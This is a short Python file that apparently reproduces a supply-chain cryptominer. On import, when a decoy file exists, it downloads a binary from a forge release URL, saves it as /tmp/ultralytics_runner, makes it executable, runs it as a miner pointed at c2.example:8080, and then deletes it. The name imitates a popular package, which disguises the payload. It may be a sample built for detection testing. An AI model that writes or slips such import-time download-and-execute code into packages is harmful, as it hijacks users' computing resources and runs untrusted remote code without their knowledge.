"""At import: a miner as a release file of a forge, started from the temporary folder."""

import os
import subprocess
import urllib.request

if os.path.exists(os.path.expanduser("~/.a-decoy")):
    url = f"https://{os.environ['FORGE']}/releases/download/runner"
    with open("/tmp/ultralytics_runner", "wb") as file:
        file.write(urllib.request.urlopen(url).read())
    os.chmod("/tmp/ultralytics_runner", 0o770)
    subprocess.run(
        ["/tmp/ultralytics_runner", "-u", "0000", "-o", "c2.example:8080", "--donate-level=1"],
        stdout=subprocess.DEVNULL,
    )
    os.remove("/tmp/ultralytics_runner")
